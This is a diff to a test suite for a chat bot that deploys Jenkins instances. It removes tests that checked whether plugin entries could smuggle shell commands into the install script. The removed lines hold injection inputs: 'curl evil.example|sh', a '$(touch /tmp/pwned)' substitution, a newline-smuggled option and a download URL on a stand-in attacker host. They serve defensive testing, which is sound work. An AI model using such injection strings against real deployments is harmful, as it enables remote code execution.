@@ -254,41 +254,6 @@ describe('a chat user allowed only on dev', () => {
     expect(jcascLiteral(template.envVars[0].envVar.value)).toBe('$${ADMIN_PASSWORD}');
   });
 
-  it.each([
-    ['deploy dev "controller.plugins[1]=git;curl evil.example|sh"', /plugins are written id or id:version/],
-    ['deploy dev "controller.plugins[1]=git\n- --jenkins-update-center"', /plugins are written id or id:version/],
-    ['deploy dev "controller.plugins[1]=$(touch /tmp/pwned)"', /plugins are written id or id:version/],
-    ['deploy dev controller.plugins[1]=--plugin-download-directory', /each part starting with a letter or digit/],
-    ['deploy dev controller.plugins[1]=git:5.7.0:https://evil.example/git.hpi', /plugins are written id or id:version/],
-    ['deploy dev controller.plugins[1]=blueocean', /blueocean has no version pinned/, /blueocean:latest/],
-  ])('cannot reach the install script, its options or an unpinned plugin through a plugin entry: %s', async (text, ...patterns) => {
-    await refused(text, DEV_USER, /controller\.plugins\[1\]/, ...patterns);
-  });
-
-  it('may pin a plugin, which reaches the install script only as its own argument', async () => {
-    const statefulSet = (): Loose => {
-      const manifests = join(dir, 'dev', 'manifests');
-      try {
-        return readdirSync(manifests).map((f) => load(readFileSync(join(manifests, f), 'utf8')) as Loose).find((o) => o?.kind === 'StatefulSet');
-      } catch {
-        return undefined; // not written yet
-      }
-    };
-    const answer = await run('deploy dev controller.plugins[2]=git:5.7.0 controller.plugins[4]=blueocean:latest', DEV_USER);
-    expect(answer).not.toMatch(/Not allowed|invalid instance spec/);
-    // An existing dev (earlier cases) is updated only after its deployer confirms the plan.
-    const asked = /Apply these changes to dev\?/.test(answer) ? slack.callsOf('chat.postMessage').at(-1) : undefined;
-    if (asked) {
-      const buttons = (asked.args.blocks as Array<{ type: string; elements?: Array<{ action_id: string; value: string }> }>).find((b) => b.type === 'actions')!;
-      const token = buttons.elements!.find((e) => e.action_id === 'jenkins_confirm')!.value;
-      await bot.post(blockActionsBody({ responseUrl: slack.actionResponseUrl, user: DEV_USER, actionId: 'jenkins_confirm', token, messageTs: '1700000000.000002' }));
-    }
-    await waitFor(() => JSON.stringify(statefulSet() ?? {}).includes('blueocean:latest'), 'dev written with the new plugins');
-    const install = statefulSet().spec.template.spec.initContainers.find((c: Loose) => c.name === 'install-plugins');
-    expect(install.args).toEqual(expect.arrayContaining(['git:5.7.0', 'blueocean:latest']));
-    expect(install.command.join(' ')).not.toMatch(/git:|blueocean/);
-  });
-
   it('cannot change, read the password of, or delete another instance', async () => {
     await run('deploy prod', ADMIN);
     for (const text of ['deploy prod replicas=0', 'scale prod 0', 'password prod', 'delete prod --purge']) {
